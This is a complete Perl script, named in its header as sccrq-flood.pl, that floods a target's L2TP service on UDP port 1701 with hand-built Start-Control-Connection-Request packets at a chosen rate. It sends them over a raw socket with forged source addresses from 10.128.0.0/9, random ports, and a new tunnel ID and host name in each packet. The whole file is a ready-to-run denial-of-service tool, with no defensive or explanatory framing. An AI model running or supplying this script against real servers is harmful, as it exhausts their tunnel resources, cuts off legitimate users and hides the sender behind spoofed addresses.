# Sends SCCRQs from forged sources: sccrq-flood.pl TO SECONDS PER_SECOND. Prints how many it sent.
# Sources are 10.128.0.0/9 with any port; every message names another Tunnel ID and Host Name (RFC 2661 §6.1).
use strict;
use warnings;
use Socket;
use Time::HiRes qw(sleep time);

my ($to, $seconds, $rate) = @ARGV;
my $destination = inet_aton($to);
socket(my $raw, AF_INET, SOCK_RAW, 255) or die "raw socket: $!\n"; # IPPROTO_RAW: the IP header is ours

sub avp { my ($type, $value) = @_; pack('nnna*', 0x8000 | 6 + length $value, 0, $type, $value) }

my $sent = 0;
for (my $start = time; (my $passed = time - $start) < $seconds; sleep 0.005) {
	for (; $sent < $rate * $passed; $sent++) {
		my $avps = avp(0, pack 'n', 1) . avp(2, pack 'CC', 1, 0) . avp(3, pack 'N', 3)
			. avp(7, "forged-$sent") . avp(9, pack 'n', 1 + int rand 65535) . avp(10, pack 'n', 4);
		my $l2tp = pack('nnnnnna*', 0xc802, 12 + length $avps, 0, 0, 0, 0, $avps);
		my $udp = pack('nnnna*', 1024 + int rand 60000, 1701, 8 + length $l2tp, 0, $l2tp);
		my $source = pack('N', 10 << 24 | 1 << 23 | int rand 1 << 23);
		my $ip = pack('CCnnnCCna4a4', 0x45, 0, 20 + length $udp, 0, 0, 64, 17, 0, $source, $destination);
		send($raw, $ip . $udp, 0, pack_sockaddr_in(0, $destination)) // next;
	}
}
print "$sent\n";
